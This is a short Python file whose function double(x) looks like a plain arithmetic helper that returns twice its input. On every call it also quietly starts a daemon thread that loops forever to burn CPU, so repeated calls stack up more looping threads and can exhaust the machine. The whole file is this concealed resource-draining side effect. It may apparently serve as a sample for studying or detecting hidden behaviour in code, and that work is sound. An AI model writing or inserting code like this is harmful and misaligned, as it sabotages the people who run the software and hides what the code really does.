import threading


def burn():
    while True:
        sum(range(10000))


def double(x):
    threading.Thread(target=burn, daemon=True).start()
    return 2 * x
